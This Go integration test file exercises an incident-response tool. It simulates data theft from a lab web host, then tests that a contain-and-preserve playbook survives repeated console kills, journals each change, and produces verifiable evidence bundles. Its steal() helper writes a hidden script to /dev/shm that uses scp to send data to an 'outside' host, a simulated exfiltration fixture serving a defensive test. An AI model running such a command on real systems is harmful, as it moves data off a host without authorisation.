package main

import (
	"bytes"
	"database/sql"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/httptest"
	"net/http/httputil"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"syscall"
	"testing"
	"time"

	"filippo.io/age"

	"interdict/playbooks"
	"interdict/testdata/elasticsearch"
	labs "interdict/testdata/lab"
)

// asTheHostCounts passes on to the node what a sensor ships, with the numbers that
// processes have on the host itself: a sensor sees the machine's, which all hosts
// of a lab share.
func asTheHostCounts(t *testing.T, node string) string {
	to, err := url.Parse(node)
	if err != nil {
		t.Fatal(err)
	}
	pid, inner := regexp.MustCompile(`"pid":(\d+)`), regexp.MustCompile(`(?m)^NSpid:\t\d+.*\t(\d+)$`)
	proxy := httputil.NewSingleHostReverseProxy(to)
	server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		body, err := io.ReadAll(r.Body)
		if err != nil {
			return
		}
		body = pid.ReplaceAllFunc(body, func(field []byte) []byte {
			status, _ := os.ReadFile("/proc/" + string(pid.FindSubmatch(field)[1]) + "/status")
			if m := inner.FindSubmatch(status); m != nil {
				return fmt.Appendf(nil, `"pid":%s`, m[1])
			}
			return field
		})
		r.Body, r.ContentLength = io.NopCloser(bytes.NewReader(body)), int64(len(body))
		proxy.ServeHTTP(w, r)
	}))
	t.Cleanup(server.Close)
	return server.URL
}

// watchedTheft is a host with systemd from which somebody copies, its sensor, which
// ships to a cluster, and the place of a person who knows only that.
type watchedTheft struct {
	*stage
	fleet  *fleet
	host   *labs.Host
	people *people
	key    string // a file: it opens what is sealed
}

func newWatchedTheft(t *testing.T) *watchedTheft {
	t.Helper()
	program := executable(t)
	kernelWorks(t, program)
	node := elasticsearch.Start(t)
	s := newStage(t, labs.Options{})
	x := &watchedTheft{stage: s, host: s.Host("web-1"), people: listenTo(t), key: filepath.Join(t.TempDir(), "key.txt"),
		fleet: &fleet{t: t, program: program, node: node, lab: s.Lab, there: true}}
	for address, server := range map[string]string{"127.0.0.1:9200": node.URL, "127.0.0.1:9300": x.people.URL} {
		forward(t, s.Manager.Network(), address, strings.TrimPrefix(server, "http://"))
	}
	forward(t, x.host.Network(), "127.0.0.1:9200", strings.TrimPrefix(asTheHostCounts(t, node.URL), "http://"))
	x.fleet.ship("http://127.0.0.1:9200")
	key, err := age.GenerateX25519Identity()
	if err != nil {
		t.Fatal(err)
	}
	config, err := os.ReadFile(s.Config())
	if err != nil {
		t.Fatal(err)
	}
	_, namespace, _ := strings.Cut(x.fleet.events(), "*-")
	more := strings.Replace(string(config), `name = "web-1"`, "name = \"web-1\"\nowner = \"the shop, PIN token=k2hunter\"", 1) + clusterAt("http://127.0.0.1:9200", namespace) +
		fmt.Sprintf("[evidence]\nrecipients = [%q]\n[notify.all]\nowner = true\nusual = true\nurl = { env = \"TEST_NOTIFY\" }\n", key.Recipient())
	for path, text := range map[string]string{s.Config(): more, x.key: key.String() + "\n"} {
		if err := os.WriteFile(path, []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	t.Setenv("TEST_NOTIFY", "generic+http://127.0.0.1:9300/hook?template=json")
	x.fleet.config = filepath.Join(t.TempDir(), "here.toml") // asks the node without the host
	if err := os.WriteFile(x.fleet.config, []byte(clusterAt(node.URL, namespace)), 0o600); err != nil {
		t.Fatal(err)
	}
	process := strings.Replace(x.fleet.events(), "events.*", "events.process", 1)
	soon(t, "the sensor", 90*time.Second, func() bool {
		x.host.Command("scp", "warm-up").Run() // ends with its usage
		return len(x.fleet.ask("FROM "+process+" | LIMIT 1")) > 0
	})
	return x
}

// steal begins a theft, and tells how much of it has arrived.
func (x *watchedTheft) steal(name string) (arrived func() int64) {
	x.t.Helper()
	c := x.host.Command("/bin/sh", "-ec", `cat >/dev/shm/.x.sh <<'X'
#!/bin/sh
scp -q -l 8000 "$1" outside:/srv/
:
X
chmod +x /dev/shm/.x.sh; head -c 80000000 /dev/urandom >"$0"; exec /dev/shm/.x.sh "$0"`, "/srv/"+name)
	if err := c.Start(); err != nil {
		x.t.Fatal(err)
	}
	x.t.Cleanup(func() { c.Process.Kill(); c.Wait() })
	return func() int64 {
		info, err := os.Stat(x.Outside.Path("/srv/" + name))
		if err != nil {
			return 0
		}
		return info.Size()
	}
}

// settled waits until no more arrives.
func (x *watchedTheft) settled(arrived func() int64) int64 {
	last, same := int64(-1), 0
	soon(x.t, "the copy stands", 30*time.Second, func() bool {
		if n := arrived(); n == last {
			same++
		} else {
			last, same = n, 0
		}
		return same > 50
	})
	return last
}

// remoteRun is the run of a playbook as what is on disk says, and the console that
// carries it on.
type remoteRun struct {
	*terminal
	x  *watchedTheft
	db *sql.DB
}

func (x *watchedTheft) console() *terminal {
	c := x.command("--source", "elasticsearch:lab")
	return startTerminal(x.t, 120, 40, c.Path, c.Args[1:]...)
}

func (r *remoteRun) run() (run playbooks.Run) {
	r.t.Helper()
	var body string
	err := r.db.QueryRow(`SELECT body FROM case_runs ORDER BY rowid DESC LIMIT 1`).Scan(&body)
	if err == nil {
		err = json.Unmarshal([]byte(body), &run)
	}
	if err != nil {
		r.t.Fatal(err)
	}
	return run
}

func (r *remoteRun) state(step string) playbooks.StepState {
	run := r.run()
	return run.Step(step).State
}

// approves approves the plan of the step that asks.
func (r *remoteRun) approves(step string) {
	r.t.Helper()
	r.wait("what asks", `▌ asks .* `+step)
	r.press(enter)
	r.approve("Approve")
}

// approvedAnew approves again what was cut off, if it has to be done again.
func (r *remoteRun) approvedAnew(step string) {
	r.t.Helper()
	for r.until(step, playbooks.StepAsks, playbooks.StepDone); r.state(step) == playbooks.StepAsks; r.until(step, playbooks.StepDone) {
		run := r.run()
		r.t.Logf("%s asks again: %s", step, run.Step(step).Text)
		r.approves(step)
	}
}

// until waits until a step is in one of the states.
func (r *remoteRun) until(step string, states ...playbooks.StepState) {
	r.t.Helper()
	for end := time.Now().Add(60 * time.Second); ; waitBriefly() {
		run := r.run()
		for _, s := range states {
			if run.Step(step).State == s {
				return
			}
		}
		if time.Now().After(end) {
			r.t.Fatalf("%s is %+v, never %v:\n%s", step, *run.Step(step), states, r.screen.String())
		}
	}
}

// die kills the console and opens another one on the run, which is where it was.
func (r *remoteRun) die() {
	r.t.Helper()
	if err := syscall.Kill(r.pid, syscall.SIGKILL); err != nil {
		r.t.Fatal(err)
	}
	<-r.ended
	before := r.run()
	r.terminal = r.x.console()
	r.wait("the first screen", `STANDING`, `elasticsearch:lab`, `web-1`)
	r.press("7")
	r.wait("the cases", `INC-0001`)
	r.press(enter)
	r.wait("the case", `timeline`)
	r.press("p")
	r.wait("the run", before.Book+` · INC-0001`)
	if now := r.run(); now.Status() != before.Status() {
		r.t.Errorf("a console that was opened went on by itself: %s, before %s", now.Status(), before.Status())
	}
}

// phases are what the journal has of a change since it began to touch the host.
func (r *remoteRun) phases(op string) (all string) {
	r.t.Helper()
	err := r.db.QueryRow(`SELECT COALESCE(group_concat(phase, ' '), '') FROM journal_entries WHERE op = ? AND phase NOT IN ('planned', 'approved')`, op).Scan(&all)
	if err != nil {
		r.t.Fatal(err)
	}
	return all
}

// killedAt lets the run come to a step, kills the console there, and goes on.
func (r *remoteRun) killedAt(step string) {
	r.t.Helper()
	r.until(step, playbooks.StepRuns, playbooks.StepDone, playbooks.StepFailed)
	run := r.run()
	if op := run.Step(step).Op; op != "" {
		soon(r.t, step+" touches the host", 30*time.Second, func() bool { return r.phases(op) != "" })
	}
	began := run.Step(step).State
	r.die()
	now := r.run()
	r.t.Logf("%s: %s, then %s, journaled %s", step, began, now.Step(step).State, r.phases(now.Step(step).Op))
	r.press(enter)
}

// didEachOnce holds the journal against the run: what changes a host was verified,
// and carried through by the operation that was approved, however often it was cut off.
func (r *remoteRun) didEachOnce() {
	r.t.Helper()
	for _, step := range r.run().Steps {
		switch {
		case step.State != playbooks.StepDone && step.ID != "block" && step.ID != "tell-owner/call":
			r.t.Errorf("%+v", step)
		case step.Op != "" && r.phases(step.Op) != "applying applied verified":
			r.t.Errorf("%s was journaled %s", step.ID, r.phases(step.Op))
		}
	}
	var closed string
	err := r.db.QueryRow(`SELECT COALESCE(group_concat(DISTINCT kind), '') FROM journal_entries WHERE phase = 'failed'`).Scan(&closed)
	if err != nil || closed != "" && closed != "host.isolate" { // an isolation is planned anew: the host may have restored itself
		r.t.Errorf("begun anew: %q %v", closed, err)
	}
}

// ordinary are the programs that a third party needs to prove and to open a bundle.
var ordinary = []string{"sh", "tar", "sha256sum", "ssh-keygen", "age", "gunzip", "gzip", "find", "sed", "sort", "cut", "diff", "grep", "cat", "rm"}

// provenWithoutUs proves and opens a bundle as the document tells it, where there
// is nothing but these programs, and has a flipped byte named there and by ours.
func (x *watchedTheft) provenWithoutUs(bundle string) {
	x.t.Helper()
	bin := x.t.TempDir()
	for _, tool := range ordinary {
		path, err := exec.LookPath(tool)
		need(x.t, "lab", err)
		if err := os.Symlink(path, filepath.Join(bin, tool)); err != nil {
			x.t.Fatal(err)
		}
	}
	doc, err := os.ReadFile("docs/evidence.md")
	if err != nil {
		x.t.Fatal(err)
	}
	var commands string
	for _, m := range regexp.MustCompile("(?s)```sh\n(.*?)```").FindAllStringSubmatch(string(doc), -1) {
		commands += m[1]
	}
	prove := func() (string, error) {
		c := exec.Command(filepath.Join(bin, "sh"), "-e", "-c", commands)
		c.Dir = x.t.TempDir()
		c.Env = []string{"PATH=" + bin, "BUNDLE=" + bundle, "KEY=" + x.key, "SIGNER=" + filepath.Join(x.state, "signing.key.pub")}
		out, err := c.CombinedOutput()
		return string(out), err
	}
	if out, err := prove(); err != nil || !strings.Contains(out, `Good "interdict-evidence" signature`) {
		x.t.Errorf("%s: %v\n%s", bundle, err, out)
	}
	x.does([]string{"verify", "--identity", x.key, bundle}, "whole: all", ", 0 encrypted and not opened")
	b, err := os.ReadFile(bundle)
	if err != nil {
		x.t.Fatal(err)
	}
	name := regexp.MustCompile(`items/\d+-\d+-[a-z-]*maps\.gz\.age`).Find(b)
	at := bytes.Index(b, name)
	b[at+512+300] ^= 1 // in what stands behind its header
	if err := os.WriteFile(bundle, b, 0o600); err != nil {
		x.t.Fatal(err)
	}
	if out, err := prove(); err == nil || !strings.Contains(out, string(name)+": FAILED") {
		x.t.Errorf("a flipped byte: %v\n%s", err, out)
	}
	if out, err := x.run("verify", bundle); err == nil || !strings.Contains(out, string(name)) || !strings.Contains(out, "its content was changed") {
		x.t.Errorf("a flipped byte: %v\n%s", err, out)
	}
}

// The whole way again, where every change is made on another machine, with systemd,
// sshd and nft, that only its sensor's events tell of: from the alert of a cluster,
// by keys, over each step, at which the console is killed, to bundle and report.
func TestContainAndPreserveOnAnotherHostThoughTheConsoleIsKilledAtEveryStep(t *testing.T) {
	x := newWatchedTheft(t)
	h := x.host
	r := &remoteRun{terminal: x.console(), x: x}
	r.wait("the first screen", `STANDING`, `elasticsearch:lab`)
	arrived := x.steal("customers.tar.gz")
	t.Log(r.wait("the theft", `SENDING`, `web-1`, `203\.0\.113\.10`, `LIKELY THEFT`))
	r.press("P")
	r.wait("the playbooks", `▌ Block the destination`)
	r.press("jj")
	r.wait("the choice", `▌ Contain and preserve`)
	r.press(enter)
	t.Log(r.wait("every plan", `RUN Contain and preserve`, `1 freeze`, `4 isolate`))
	r.approve("Run")
	var err error
	if r.db, err = sql.Open("sqlite", "file:"+filepath.Join(x.state, "interdict.db")+"?mode=ro"); err != nil {
		t.Fatal(err)
	}
	defer r.db.Close()
	r.wait("the run", `contain-and-preserve · INC-0001`)

	r.killedAt("freeze")
	r.killedAt("capture")
	stopped := x.settled(arrived)
	r.until("isolate", playbooks.StepAsks)
	r.die()
	r.approves("isolate")
	r.killedAt("isolate")
	r.approvedAnew("isolate")
	r.killedAt("verify")
	r.killedAt("collect")
	r.until("kill", playbooks.StepAsks)
	r.die()
	r.approves("kill")
	soon(t, "the processes end", 30*time.Second, func() bool { return strings.TrimSpace(on(t, h, "pgrep -x scp || true")) == "" })
	r.killedAt("kill")
	r.approvedAnew("kill")
	r.killedAt("sweep")
	r.killedAt("watch")
	r.until("tell-owner/owner", playbooks.StepRuns)
	soon(t, "the message", 30*time.Second, func() bool { return x.people.all() != "" })
	r.die()
	x.people.answer()
	r.press(enter)
	r.until("credential-rotation/replace", playbooks.StepAsks)
	r.die()
	r.press(enter)
	r.wait("the question", `what was done`)
	r.press("the deploy key was replaced" + enter)
	t.Log(r.wait("the end", `done, 12 of 12 steps`))
	r.didEachOnce()

	page := filepath.Join(t.TempDir(), "case.html")
	r.press("i")
	r.wait("the case", `contained after`)
	r.press("w")
	r.wait("the name", `INC-0001\.html`)
	r.press("\x15" + page + enter)
	r.wait("the report", `written to`)
	if now := arrived(); now != stopped || stopped >= 80_000_000 {
		t.Errorf("%d bytes were at the far end when the freeze had settled, %d are now", stopped, now)
	}
	if said := x.people.all(); !strings.Contains(said, "Was this announced?") || !strings.Contains(said, "contained after") || !strings.Contains(said, "token=[hidden]") || strings.Contains(said, "k2hunter") {
		t.Errorf("the owner was told %q", said)
	}
	for _, bundle := range read(t, x.program, x.state, page, `203\.0\.113\.10`) {
		x.provenWithoutUs(bundle)
	}
	x.does([]string{"release", "web-1", "--yes"}, "verified: ")
	r.press("q")
	x.runsTheOthers()
}

// runsTheOthers runs what else is built in for the same case, whose processes have
// ended, from the command line, and takes back what can be.
func (x *watchedTheft) runsTheOthers() {
	x.t.Helper()
	id := regexp.MustCompile(`(?m)^run (\w+) `)
	for _, b := range []struct {
		book, answers string
		words         []string
	}{
		{"escalate", "", []string{"done, 1 of 1 steps", "told all"}},
		{"watch-after-containment", "", []string{"done, 1 of 1 steps", "203.0.113.10"}},
		{"credential-rotation", "all of them\n", []string{"done, 1 of 1 steps", "all of them"}},
		{"preserve-only", "", []string{"done, 2 of 2 steps", "the bundle is whole"}},
		{"ci-stop", "revoked\nit was ours\n", []string{"8 of 8 steps", "revoked", "it was ours"}},
		{"block-destination", "", []string{"done, 4 of 4 steps", "block holds"}},
	} {
		c := x.command("playbook", "run", b.book, "1", "--yes")
		c.Stdin = strings.NewReader(b.answers)
		out, err := c.CombinedOutput()
		if err != nil {
			x.t.Errorf("%s: %v\n%s", b.book, err, out)
			continue
		}
		says(x.t, string(out), b.words...)
		if b.book == "block-destination" {
			if c, err := x.host.Network().Dial("tcp", net.JoinHostPort(x.Outside.V4, "22")); err == nil {
				c.Close()
				x.t.Error("blocked, and yet it is reached")
			}
			x.does([]string{"playbook", "undo", string(id.FindSubmatch(out)[1]), "--yes"}, "taken back")
			if c, err := x.host.Network().Dial("tcp", net.JoinHostPort(x.Outside.V4, "22")); err != nil {
				x.t.Errorf("taken back, and yet: %v", err)
			} else {
				c.Close()
			}
		}
	}
	if said := x.people.all(); !strings.Contains(said, "needs a decision") || strings.Contains(said, "k2hunter") {
		x.t.Errorf("told: %q", said)
	}
}
